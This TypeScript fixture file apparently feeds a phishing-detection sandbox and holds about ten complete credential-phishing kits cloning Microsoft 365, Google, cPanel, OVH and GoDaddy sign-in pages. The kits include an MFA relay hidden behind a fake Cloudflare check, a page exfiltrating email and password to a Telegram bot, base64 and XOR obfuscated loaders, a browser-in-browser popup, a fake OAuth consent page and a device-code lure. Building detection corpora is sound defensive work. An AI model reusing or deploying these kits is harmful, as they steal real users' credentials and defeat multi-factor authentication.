import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, chunks, doc, keyOf, jsonRoute, GOOGLE_CSS, GOOGLE_G, MS_CSS, MS_SQUARES, msCard, OKTA_CSS, tok, tok64, xorList } from '../parts/yo-kit.js';

// Sign-in kits for identity providers and hosting webmail, as the sandbox opened them from customer mail.

export const entries: Entry[] = [
(() => {
  const host = 'mfa-review.corpdocs-cloud.com';
  const kit = doc({
    title: 'Sign in to your account',
    css: MS_CSS,
    body:
      msCard(
        `<div id="s1">
      <div class="title" role="heading">Sign in</div>
      <div class="err" id="e1">We couldn't find an account with that username. Try another, or get a new Microsoft account.</div>
      <input type="email" id="i0116" name="loginfmt" placeholder="Email, phone, or Skype" autocomplete="username" aria-label="Enter your email, phone, or Skype.">
      <div class="small">No account? <a href="#">Create one!</a></div>
      <div class="small" style="margin-top:12px"><a href="#">Can't access your account?</a></div>
      <div class="row"><input type="button" class="btn btn-primary" id="idSIButton9" value="Next"></div>
    </div>
    <div id="s2" style="display:none">
      <button class="ident" id="back" type="button">&#8592; <span id="who"></span></button>
      <div class="title" role="heading">Enter password</div>
      <div class="err" id="e2">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
      <input type="password" id="i0118" name="passwd" placeholder="Password" autocomplete="current-password">
      <div class="small"><a href="#">Forgot my password</a></div>
      <div class="row"><input type="button" class="btn btn-primary" id="idSIButton10" value="Sign in"></div>
    </div>
    <div id="s3" style="display:none">
      <button class="ident" type="button"><span id="who2"></span></button>
      <div class="title" role="heading">Approve sign in request</div>
      <p>Open your Authenticator app, and enter the number shown to sign in.</p>
      <div id="num" style="font-size:40px;font-weight:600;text-align:center;margin:22px 0">--</div>
      <p class="small">No numbers in your app? Make sure to upgrade to the latest version.</p>
      <p class="small"><a href="#">I can't use my Microsoft Authenticator app right now</a></p>
    </div>`,
        { options: `<div class="opts"><span>&#128273;</span><a href="#" style="color:#1b1b1b">Sign-in options</a></div>` },
      ) +
      `<script>
(function(){
  var api="/8Jq3Xv/api", sid="${tok('yo-m365-gate-sid', 24)}";
  function $(i){return document.getElementById(i)}
  var em=location.hash.slice(1);try{em=atob(em)}catch(x){}
  if(em.indexOf("@")>0){$("i0116").value=em}
  function post(d,cb){var x=new XMLHttpRequest();x.open("POST",api,true);x.setRequestHeader("Content-Type","application/json");x.onload=function(){var r={};try{r=JSON.parse(x.responseText)}catch(e){}cb(r)};d.sid=sid;x.send(JSON.stringify(d))}
  $("idSIButton9").onclick=function(){var u=$("i0116").value.trim();if(!/^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$/.test(u)){$("e1").style.display="block";return}
    post({step:"u",u:u},function(r){$("who").textContent=u;$("who2").textContent=u;$("s1").style.display="none";$("s2").style.display="block";$("i0118").focus()})};
  $("back").onclick=function(){$("s2").style.display="none";$("s1").style.display="block"};
  var tries=0;
  $("idSIButton10").onclick=function(){var p=$("i0118").value;if(!p)return;tries++;
    post({step:"p",u:$("i0116").value,p:p,n:tries},function(r){
      if(r.mfa){$("s2").style.display="none";$("s3").style.display="block";$("num").textContent=r.num||"--";poll()}
      else if(r.ok){location.replace(r.to||"https://outlook.office.com/mail/")}
      else{$("e2").style.display="block";$("i0118").value=""}})};
  function poll(){setTimeout(function(){post({step:"s"},function(r){if(r.done){location.replace("https://outlook.office.com/mail/inbox")}else{poll()}})},2500)}
})();
</script>`,
  });
  const gate = doc({
    title: 'Just a moment...',
    css: `body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,"Helvetica Neue",Arial,sans-serif;color:#313131;background:#fff}
.main-wrapper{max-width:60rem;margin:8rem auto 0;padding:0 1.5rem}
h1{font-size:2.5rem;font-weight:500;margin:0 0 .5rem}
h2{font-size:1.5rem;font-weight:500;line-height:2.25rem;margin:0 0 2rem}
#wdg{display:flex;align-items:center;justify-content:space-between;width:300px;height:65px;border:1px solid #e0e0e0;background:#fafafa;padding:0 12px;box-sizing:border-box}
#wdg label{display:flex;align-items:center;gap:10px;font-size:14px;cursor:pointer}
#wdg input{width:24px;height:24px}
.cf{font-size:10px;text-align:right;color:#555}.cf b{display:block;font-size:11px;letter-spacing:1px;color:#f38020}
p.note{margin-top:2rem;font-size:1rem}
footer{position:fixed;bottom:0;left:0;right:0;text-align:center;font-size:.75rem;padding:1rem;color:#555}
.spin{display:none;width:22px;height:22px;border:3px solid #ccc;border-top-color:#f38020;border-radius:50%;animation:s 1s linear infinite}@keyframes s{to{transform:rotate(360deg)}}`,
    body: `<div class="main-wrapper" role="main">
  <h1 class="zone-name-title">${host}</h1>
  <h2 id="challenge-body-text">Verify you are human by completing the action below.</h2>
  <div id="wdg"><label><input type="checkbox" id="cb"><span class="spin" id="sp"></span><span id="lbl">Verify you are human</span></label><div class="cf"><b>CLOUDFLARE</b>Privacy &bull; Terms</div></div>
  <p class="note">${host} needs to review the security of your connection before proceeding.</p>
</div>
<footer>Ray ID: <code>8c1f7e2a9d4b61f3</code> &nbsp;&bull;&nbsp; Performance &amp; security by <a href="#">Cloudflare</a></footer>
<script>
var busy=false;
function go(){if(busy)return;busy=true;document.getElementById("cb").style.display="none";document.getElementById("sp").style.display="inline-block";document.getElementById("lbl").textContent="Verifying...";
  fetch("/8Jq3Xv/l?t="+Date.now(),{credentials:"include"}).then(function(r){return r.json()}).then(function(j){var h=decodeURIComponent(escape(atob(j.d)));setTimeout(function(){document.open();document.write(h);document.close()},600)})}
document.getElementById("cb").addEventListener("change",go);
setTimeout(go,3200);
</script>`,
  });
  return {
    id: 'yo-m365-turnstile-gate-aitm',
    label: 'phishing',
    kind: 'm365-aitm-gated',
    url: `https://${host}/8Jq3Xv/#amFuZS5tb3JyaXNAaGFsbG1hcmstbG9naXN0aWNzLmNvbQ==`,
    routes: {
      [`${host}/8Jq3Xv/`]: htmlRoute(gate),
      [`${host}/8Jq3Xv/l`]: jsonRoute({ d: b64(kit), v: 3 }),
      [`${host}/8Jq3Xv/api`]: jsonRoute({ ok: false, mfa: true, num: '62' }),
    },
  } satisfies Entry;
})(),
(() => {
  const host = 'bafybeih4x2slq7ktuvwd3rfdpz.ipfs.w3s.link';
  const inner = doc({
    title: 'Sign in to your account',
    css: MS_CSS,
    body:
      msCard(`<form id="lf" autocomplete="off">
<div class="title">Sign in</div>
<p class="small" style="margin:0 0 14px">to continue to Outlook</p>
<input type="email" name="e" id="e" placeholder="someone@example.com" required>
<input type="password" name="p" id="p" placeholder="Password" required>
<div class="err" id="m">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
<div class="small"><a href="#">Forgot password?</a></div>
<div class="row"><button class="btn btn-primary" type="submit">Sign in</button></div>
</form>`) +
      `<script>
var c=0,f=document.getElementById("lf");
var h=location.hash.substr(1);if(h){document.getElementById("e").value=h.indexOf("@")>0?h:atob(h)}
f.onsubmit=function(ev){ev.preventDefault();c++;
  var b="Email: "+f.e.value+"\\nPass: "+f.p.value+"\\nTry: "+c+"\\nUA: "+navigator.userAgent;
  fetch("https://api.telegram.org/bot7104478211:AAHc3vXr0mE9Q2kTzN5wJf1sLb6YdUq4pRo/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"-1002213874455",text:b})}).finally(function(){
    if(c<2){document.getElementById("m").style.display="block";f.p.value=""}else{location.href="https://www.office.com/?auth=2"}})};
</script>`,
  });
  const parts = chunks(b64(inner), 76);
  return {
    id: 'yo-m365-ipfs-b64-chunks',
    label: 'phishing',
    kind: 'm365-encoded-blank',
    url: `https://${host}/?filename=RFQ_Q3-88120.html#bWFyay5oYXllc0BzdG9uZWJyaWRnZWNhcGl0YWwuY29t`,
    body: `<html><head><meta charset="utf-8"><meta name="robots" content="noindex, nofollow"><title>&#65279;</title></head><body>
<script>
var _0x1c=[${parts.map((s) => `'${s}'`).join(',\n')}];
var _0x2e='';for(var _0x3a=0;_0x3a<_0x1c.length;_0x3a++){_0x2e+=_0x1c[_0x3a];}
document['wr'+'ite'](decodeURIComponent(escape(window['a'+'t'+'o'+'b'](_0x2e))));
</script>
</body></html>`,
  } satisfies Entry;
})(),
(() => {
  const host = 'pub-3b9f0c71d2e84a6aa5c1f88e02d4b7c9.r2.dev';
  const key = 'Kq7#vT';
  const inner = doc({
    title: 'Microsoft 365',
    css: MS_CSS,
    body:
      msCard(`<div class="title">Verify your identity</div>
<p class="small">Because you're accessing sensitive info, you need to verify your password.</p>
<form id="vf" method="post" action="https://officeauth-relay.com/gate/r.php">
<input type="email" name="loginfmt" id="u" placeholder="Email address" required>
<input type="password" name="passwd" placeholder="Password" required>
<input type="hidden" name="ref" value="r2-doc">
<div class="row"><button class="btn btn-primary">Verify</button></div></form>`) +
      `<script>var e=location.hash.slice(1);if(e)document.getElementById("u").value=e;</script>`,
  });
  return {
    id: 'yo-m365-r2-xor-loader',
    label: 'phishing',
    kind: 'm365-encoded-blank',
    url: `https://${host}/Payment_Remittance_0917.html#ap@cedarlakefoods.com`,
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title></title></head><body style="background:#f2f2f2">
<script>
(function(k,d){var o=[];for(var i=0;i<d.length;i++){o.push(String.fromCharCode(d[i]^k.charCodeAt(i%k.length)))}
var s=decodeURIComponent(escape(o.join('')));var w=window.document;w.open();w.write(s);w.close();})
('${key}',[${xorList(inner, key)}]);
</script></body></html>`,
  } satisfies Entry;
})(),
(() => {
  const host = 'accounts.google.com.workspace-signin.info';
  return {
    id: 'yo-google-workspace-two-step',
    label: 'phishing',
    kind: 'google-kit',
    url: `https://${host}/v3/signin/identifier?continue=https%3A%2F%2Fmail.google.com%2Fmail%2F&flowName=GlifWebSignIn&hd=northwind-traders.com`,
    body: doc({
      title: 'Sign in - Google Accounts',
      css: GOOGLE_CSS,
      head: `<link rel="icon" href="data:,">`,
      body: `<div class="wrap">
<div class="gcard">
  <div>${GOOGLE_G}<h1 id="h">Sign in</h1><p class="sub" id="sub">Use your Google Account</p><div id="chip" class="chip" style="display:none"><i>&#9679;</i><span id="cu"></span></div></div>
  <div>
    <form id="gf" action="/v3/signin/_/AccountsSignInUi/data/batchexecute" method="post">
      <div id="st1"><div class="field"><input type="email" id="identifierId" name="identifier" placeholder="Email or phone" autocomplete="username"></div>
      <a class="link" href="#">Forgot email?</a>
      <p style="font-size:14px;color:#444;margin-top:32px">Not your computer? Use Guest mode to sign in privately. <a class="link" href="#">Learn more about using Guest mode</a></p>
      <div class="actions"><a class="link" href="#">Create account</a><button type="button" class="gbtn" id="identifierNext">Next</button></div></div>
      <div id="st2" style="display:none"><div class="field"><input type="password" name="Passwd" id="pw" placeholder="Enter your password" autocomplete="current-password"></div>
      <label style="font-size:14px"><input type="checkbox" id="show"> Show password</label>
      <p id="wrong" style="color:#b3261e;font-size:12px;display:none">Wrong password. Try again or click Forgot password to reset it.</p>
      <div class="actions"><a class="link" href="#">Forgot password?</a><button type="submit" class="gbtn" id="passwordNext">Next</button></div></div>
    </form>
  </div>
</div>
<div class="gfoot"><span>English (United States)</span><span><a href="#">Help</a><a href="#">Privacy</a><a href="#">Terms</a></span></div>
</div>
<script>
var $=function(i){return document.getElementById(i)};
var hd=new URLSearchParams(location.search).get("hd");
$("identifierNext").onclick=function(){var v=$("identifierId").value.trim();if(!v)return;if(v.indexOf("@")<0&&hd)v+="@"+hd;
 $("cu").textContent=v;$("h").textContent="Welcome";$("sub").style.display="none";$("chip").style.display="inline-flex";$("st1").style.display="none";$("st2").style.display="block"};
$("show").onchange=function(){$("pw").type=this.checked?"text":"password"};
var tries=0;
$("gf").onsubmit=function(e){e.preventDefault();tries++;
 var body=new URLSearchParams({e:$("cu").textContent,p:$("pw").value,t:String(tries),h:location.host});
 navigator.sendBeacon("/v3/signin/_/AccountsSignInUi/data/batchexecute",body);
 if(tries<2){$("wrong").style.display="block";$("pw").value=""}else{location.href="https://mail.google.com/mail/u/0/"}};
</script>`,
    }),
  } satisfies Entry;
})(),
{
  id: 'yo-bitb-google-scheduler',
  label: 'phishing',
  kind: 'browser-in-browser',
  url: 'https://meet-schedule.calendarsync-app.com/book/jdavies-30min',
  body: doc({
    title: 'Book a meeting with James Davies',
    css: `body{margin:0;font-family:Inter,Segoe UI,Arial,sans-serif;background:#f6f7fb;color:#1a1a1a}
.page{max-width:880px;margin:50px auto;background:#fff;border-radius:10px;box-shadow:0 1px 8px rgba(0,0,0,.08);display:grid;grid-template-columns:300px 1fr;min-height:440px}
.left{padding:32px;border-right:1px solid #eee}.left h2{margin:8px 0}.right{padding:32px}
.sso{display:flex;align-items:center;gap:10px;border:1px solid #dadce0;border-radius:4px;padding:10px 16px;background:#fff;cursor:pointer;font-size:15px;margin:12px 0}
#ov{display:none;position:fixed;inset:0;background:rgba(0,0,0,.35)}
#win{position:absolute;top:60px;left:50%;transform:translateX(-50%);width:480px;background:#fff;border-radius:8px;overflow:hidden;box-shadow:0 10px 40px rgba(0,0,0,.4)}
.bar{background:#dee1e6;padding:6px 10px;display:flex;align-items:center;gap:8px;font:12px Arial}.bar .dots span{display:inline-block;width:11px;height:11px;border-radius:50%;margin-right:5px}
.url{flex:1;background:#fff;border-radius:12px;padding:4px 10px;color:#202124}.url b{color:#188038;font-weight:400}
.gbody{padding:34px 36px}.gbody h1{font:400 24px "Google Sans",Arial;margin:12px 0 4px}
.gbody input{width:100%;box-sizing:border-box;height:52px;border:1px solid #747775;border-radius:4px;padding:0 14px;font-size:16px;margin:18px 0 6px}
.gb{float:right;background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:9px 24px;margin-top:24px}`,
    body: `<div class="page"><div class="left"><div style="width:56px;height:56px;border-radius:50%;background:#c9d6ff"></div><p style="color:#666;margin:14px 0 0">James Davies &middot; Crestline Advisory</p><h2>30 Minute Meeting</h2><p>&#128339; 30 min</p><p>&#128249; Web conferencing details provided upon confirmation.</p><p style="color:#555;font-size:14px">Review of the Q4 engagement proposal and contract documents.</p></div>
<div class="right"><h3>Confirm your identity to view available times</h3><p style="color:#555">To protect our calendar, please sign in with your business account.</p>
<div class="sso" id="sg">${GOOGLE_G}<span>Sign in with Google</span></div>
<div class="sso" id="sm">${MS_SQUARES}<span>Sign in with Microsoft</span></div></div></div>
<div id="ov"><div id="win">
 <div class="bar"><span class="dots"><span style="background:#ff5f57"></span><span style="background:#febc2e"></span><span style="background:#28c840"></span></span><span class="url">&#128274; <b>https://</b>accounts.google.com/o/oauth2/auth/oauthchooseaccount?client_id=1062&amp;scope=calendar</span><span style="cursor:pointer" onclick="document.getElementById('ov').style.display='none'">&#10005;</span></div>
 <div class="gbody">${GOOGLE_G}<h1 id="gh">Sign in</h1><div style="font-size:15px">to continue to <span style="color:#0b57d0">calendarsync-app.com</span></div>
 <form id="bf"><input type="email" name="email" id="be" placeholder="Email or phone"><input type="password" name="password" id="bp" placeholder="Enter your password" style="display:none">
 <div id="bm" style="color:#b3261e;font-size:12px;display:none">Wrong password. Try again or click Forgot password to reset it.</div>
 <button class="gb" id="bn" type="submit">Next</button></form><div style="clear:both"></div></div>
</div></div>
<script>
function openWin(){document.getElementById("ov").style.display="block";document.getElementById("be").focus()}
document.getElementById("sg").onclick=openWin;document.getElementById("sm").onclick=openWin;
var step=0,f=document.getElementById("bf");
f.onsubmit=function(e){e.preventDefault();if(step===0){step=1;document.getElementById("gh").textContent="Welcome";document.getElementById("be").style.display="none";document.getElementById("bp").style.display="block";return}
 fetch("/api/session/link",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({email:f.email.value,password:f.password.value,provider:"google"})});
 step++;if(step<3){document.getElementById("bm").style.display="block";f.password.value=""}else{location.href="https://calendar.google.com/"}};
</script>`,
  }),
},
(() => {
  const host = 'consent-review.graph-appsecure.com';
  return {
    id: 'yo-oauth-consent-clone-password',
    label: 'phishing',
    kind: 'oauth-consent-fake',
    url: `https://${host}/common/oauth2/v2.0/authorize?client_id=4765445b-32c6-49b0-83e6-1d93765276ca&response_type=code&scope=Mail.Read%20Files.ReadWrite.All%20offline_access&login_hint=finance%40lakeshoremfg.com`,
    body: doc({
      title: 'Permissions requested',
      css: MS_CSS + `\n.perm{list-style:none;padding:0;margin:10px 0 18px}.perm li{display:flex;gap:10px;padding:6px 0;font-size:14px}.perm li:before{content:"\\2304";color:#666}.app{display:flex;gap:12px;align-items:center;margin:16px 0}.app i{width:44px;height:44px;background:#ffcc00;display:inline-block;border-radius:4px}`,
      body: msCard(`<div id="c1"><div class="small" id="hint"></div>
<div class="title">Permissions requested</div>
<div class="app"><i></i><div><b>DocuSign eSignature for Outlook</b><br><span class="small" style="color:#0067b8">docusign.com</span> <span title="Publisher verified" style="color:#107c10">&#10004;</span></div></div>
<div class="small">This app would like to:</div>
<ul class="perm"><li>Read your mail</li><li>Have full access to all files you have access to</li><li>Maintain access to data you have given it access to</li><li>View your basic profile</li></ul>
<p class="small" style="color:#605e5c">Accepting these permissions means that you allow this app to use your data as specified in their terms of service and privacy statement. You can change these permissions at https://myapps.microsoft.com.</p>
<div class="row"><button class="btn btn-secondary" type="button" onclick="location.href='https://www.office.com'">Cancel</button><button class="btn btn-primary" type="button" id="acc">Accept</button></div></div>
<div id="c2" style="display:none"><div class="title">Confirm your password</div><p class="small">To grant these permissions, verify the password for <b id="h2"></b>.</p>
<form id="pf" method="post" action="/common/oauth2/v2.0/token"><input type="hidden" name="username" id="un"><input type="password" name="password" placeholder="Password" required>
<div class="row"><button class="btn btn-primary" type="submit">Verify</button></div></form></div>`) +
        `<script>
var h=new URLSearchParams(location.search).get("login_hint")||"";document.getElementById("hint").textContent=h;document.getElementById("h2").textContent=h;document.getElementById("un").value=h;
document.getElementById("acc").onclick=function(){document.getElementById("c1").style.display="none";document.getElementById("c2").style.display="block"};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const host = 'securedoc-review-portal.azurewebsites.net';
  return {
    id: 'yo-device-code-secure-doc',
    label: 'phishing',
    kind: 'device-code-phish',
    url: `https://${host}/view?doc=Q3_Compensation_Review.pdf`,
    routes: {
      [`${host}/view`]: htmlRoute(
        doc({
          title: 'Secure Document | Microsoft 365',
          css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#faf9f8;color:#323130}
.top{background:#0078d4;color:#fff;padding:12px 24px;font-size:16px;display:flex;gap:12px;align-items:center}
.wrap{max-width:620px;margin:48px auto;background:#fff;border:1px solid #edebe9;border-radius:4px;padding:32px 40px}
.code{font-family:Consolas,monospace;font-size:34px;letter-spacing:6px;background:#f3f2f1;padding:14px 18px;text-align:center;margin:18px 0;border-radius:4px}
.btn{display:inline-block;background:#0078d4;color:#fff;padding:10px 20px;border-radius:2px;text-decoration:none;font-weight:600}
ol li{margin:8px 0}.muted{color:#605e5c;font-size:13px}`,
          body: `<div class="top">${MS_SQUARES}<span>Microsoft 365 &middot; Secure Document Sharing</span></div>
<div class="wrap">
<h2 style="margin-top:0">&#128274; Q3_Compensation_Review.pdf</h2>
<p>This document was shared with you by <b>HR Operations</b> and is protected by your organization's sensitivity policy. To open it, verify your identity with Microsoft.</p>
<ol><li>Copy the verification code below.</li><li>Click <b>Verify with Microsoft</b> and paste the code on the Microsoft page.</li><li>Sign in with your work account. The document opens automatically here.</li></ol>
<div class="code" id="uc">&hellip;</div>
<p><button id="cp" style="margin-right:10px">Copy code</button> <a class="btn" id="go" href="https://microsoft.com/devicelogin" target="_blank" rel="noopener">Verify with Microsoft</a></p>
<p class="muted">The code expires in <span id="ttl">15:00</span>. Waiting for verification&hellip;</p>
</div>
<script>
var dc;
fetch("/api/devicecode",{method:"POST"}).then(function(r){return r.json()}).then(function(j){dc=j;document.getElementById("uc").textContent=j.user_code;poll()});
document.getElementById("cp").onclick=function(){navigator.clipboard.writeText(document.getElementById("uc").textContent)};
document.getElementById("go").addEventListener("click",function(){navigator.clipboard.writeText(document.getElementById("uc").textContent)});
var left=900;setInterval(function(){left--;document.getElementById("ttl").textContent=Math.floor(left/60)+":"+("0"+left%60).slice(-2)},1000);
function poll(){setTimeout(function(){fetch("/api/poll?dc="+encodeURIComponent(dc.device_code)).then(function(r){return r.json()}).then(function(j){if(j.status==="ok"){location.href="https://www.office.com/launch/onedrive"}else{poll()}})},5000)}
</script>`,
        }),
      ),
      [`${host}/api/devicecode`]: jsonRoute({ user_code: 'EHQ7LKRZ4', device_code: 'DAQABAAEAAAAmoFfGtYxvRrNriQdPKIZ-' + tok64('dc', 40), verification_uri: 'https://microsoft.com/devicelogin', expires_in: 900, interval: 5 }),
      [`${host}/api/poll`]: jsonRoute({ status: 'pending' }),
    },
  } satisfies Entry;
})(),
{
  id: 'yo-cpanel-webmail-quota',
  label: 'phishing',
  kind: 'webmail-clone-hosting',
  url: 'https://webmail-cpanel-login.serveirc.com/cpsess7731904/?email=office@pinecrestlandscaping.com',
  body: doc({
    title: 'Webmail Login',
    css: `body{margin:0;background:#f1f4f7;font-family:"Open Sans",Arial,sans-serif;color:#293a4a}
.login-container{width:360px;max-width:calc(100vw - 30px);margin:70px auto 10px;background:#fff;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.12);padding:34px 36px}
.logo{display:flex;align-items:center;gap:8px;font-size:26px;font-weight:700;color:#ff6c2c;justify-content:center;margin-bottom:18px}.logo small{color:#293a4a;font-weight:400;font-size:22px}
.notice{background:#fff4e5;border-left:4px solid #f0a030;padding:10px 12px;font-size:13px;margin-bottom:18px}
label{font-size:13px;font-weight:600;display:block;margin:10px 0 4px}input{width:100%;box-sizing:border-box;height:38px;border:1px solid #c7cfd7;border-radius:3px;padding:6px 10px;font-size:14px}
.btn{width:100%;margin-top:20px;height:40px;background:#179bd7;border:0;color:#fff;font-size:15px;border-radius:3px}
.locale{text-align:center;font-size:12px;color:#6c7a89;margin-top:14px}.copy{text-align:center;font-size:11px;color:#8a96a3;margin-top:22px}`,
    body: `<div class="login-container">
<div class="logo">cP<small>anel</small></div>
<div class="notice"><b>Mailbox storage 98% full.</b> Incoming messages to <span class="em"></span> are being held. Sign in to release 14 pending messages and upgrade your quota at no cost.</div>
<form id="login_form" action="https://mx-relay-quota.top/cp/wm.php" method="post">
<label for="user">Email Address</label><input id="user" name="user" type="text" autocomplete="off">
<label for="pass">Password</label><input id="pass" name="pass" type="password">
<input type="hidden" name="goto_uri" value="/">
<button class="btn" type="submit" id="login_submit">Log in</button></form>
<div class="locale">English &middot; <a href="#">Reset Password</a></div>
<div class="copy">Copyright&copy; 2024 cPanel, L.L.C.<br><a href="#">Privacy Policy</a></div>
</div>
<script>
var em=new URLSearchParams(location.search).get("email")||"";document.getElementById("user").value=em;
Array.prototype.forEach.call(document.querySelectorAll(".em"),function(n){n.textContent=em});
if(em){var d=em.split("@")[1];document.title=d+" - Webmail Login"}
</script>`,
  }),
},
{
  id: 'yo-ovh-webmail-fr',
  label: 'phishing',
  kind: 'webmail-clone-hosting',
  url: 'https://ovhcloud-webmail.fr-securite-compte.com/roundcube/?_task=login&mail=comptabilite@menuiserie-lebrun.fr',
  body: doc({
    title: 'OVHcloud Webmail',
    lang: 'fr',
    css: `body{margin:0;font-family:"Source Sans Pro",Arial,sans-serif;background:#f2f2f2;color:#000e9c}
header{background:#000e9c;color:#fff;padding:14px 28px;font-size:22px;font-weight:700;letter-spacing:.5px}header span{font-weight:300}
.panel{max-width:420px;margin:60px auto;background:#fff;padding:32px;border-top:4px solid #0050d7}
h1{font-size:22px;margin:0 0 10px;color:#000e9c}p{color:#4d5592;font-size:14px}
label{display:block;font-size:14px;font-weight:600;margin:14px 0 4px;color:#4d5592}input{width:100%;box-sizing:border-box;height:40px;border:1px solid #bef1ff;background:#f5feff;padding:0 10px;font-size:15px}
button{width:100%;height:42px;margin-top:22px;background:#0050d7;color:#fff;border:0;font-size:15px;font-weight:600}
.al{background:#fff5f5;border:1px solid #f5c2c2;color:#a00;padding:10px;font-size:13px;margin-bottom:10px}`,
    body: `<header>OVH<span>cloud</span> &nbsp;Webmail</header>
<div class="panel"><h1>Connexion à votre messagerie</h1>
<div class="al">Suite à une mise à jour de sécurité, veuillez confirmer vos identifiants sous 24 h afin d'éviter la suspension de votre adresse e-mail.</div>
<form id="ovf" method="post" action="envoi.php">
<label for="m">Adresse e-mail</label><input id="m" name="mail" type="email" required>
<label for="mdp">Mot de passe</label><input id="mdp" name="mdp" type="password" required>
<button type="submit">Se connecter</button></form>
<p style="margin-top:18px;font-size:12px">&copy; OVH SAS &ndash; 2 rue Kellermann, 59100 Roubaix</p></div>
<script>
var p=new URLSearchParams(location.search);document.getElementById("m").value=p.get("mail")||"";
var c=0;document.getElementById("ovf").onsubmit=function(e){e.preventDefault();c++;
var x=new XMLHttpRequest();x.open("POST","envoi.php");x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");x.send("mail="+encodeURIComponent(this.mail.value)+"&mdp="+encodeURIComponent(this.mdp.value)+"&c="+c);
if(c===1){alert("Mot de passe incorrect. Veuillez réessayer.");this.mdp.value=""}else{location.href="https://www.ovhcloud.com/fr/"}};
</script>`,
  }),
},
{
  id: 'yo-godaddy-m365-clone',
  label: 'phishing',
  kind: 'hosting-m365-kit',
  url: 'https://sso-godaddy.secure-email-verify.net/?realm=pass&app=o365&path=%2Fmail',
  body: doc({
    title: 'Sign In | Microsoft 365 Email from GoDaddy',
    css: `body{margin:0;font-family:"gd-sage",Arial,sans-serif;background:#fff;color:#111}
.hd{border-bottom:1px solid #d6d6d6;padding:14px 24px;display:flex;align-items:center;gap:10px}.hd b{font-size:24px;letter-spacing:-1px}
.main{max-width:420px;margin:50px auto;padding:0 20px}h1{font-size:28px;margin:0 0 4px}.sub{color:#444;margin:0 0 24px}
.ms{display:flex;align-items:center;gap:8px;font-size:13px;color:#444;margin-bottom:20px}
label{font-weight:700;font-size:14px;display:block;margin:14px 0 6px}input{width:100%;box-sizing:border-box;height:48px;border:1px solid #767676;border-radius:4px;padding:0 12px;font-size:16px}
.b{width:100%;height:48px;border:0;background:#111;color:#fff;font-weight:700;font-size:16px;border-radius:4px;margin-top:22px}
.ft{font-size:12px;color:#595959;text-align:center;margin-top:40px}`,
    body: `<div class="hd"><svg width="28" height="28" viewBox="0 0 28 28"><circle cx="14" cy="14" r="12" fill="none" stroke="#1bdbdb" stroke-width="4"/></svg><b>GoDaddy</b></div>
<div class="main"><h1>Sign in</h1><p class="sub">to continue to Microsoft 365 Email</p>
<div class="ms">${MS_SQUARES}<span>Microsoft 365 from GoDaddy</span></div>
<form id="f" action="/signin.php" method="POST">
<label>Email</label><input type="email" name="username" autocomplete="username" required>
<label>Password</label><input type="password" name="password" autocomplete="current-password" required>
<button class="b" type="submit">Sign In</button></form>
<p style="font-size:14px;margin-top:18px"><a href="#">Forgot password?</a></p>
<div class="ft">Copyright &copy; 1999 - 2024 GoDaddy Operating Company, LLC. All Rights Reserved. <a href="#">Privacy Policy</a></div></div>
<script>
document.getElementById("f").addEventListener("submit",function(e){e.preventDefault();var fd=new FormData(this);fd.append("agent",navigator.userAgent);
fetch("/signin.php",{method:"POST",body:fd}).then(function(r){return r.text()}).then(function(){location.href="https://outlook.office365.com/"})});
</script>`,
  }),
},
];
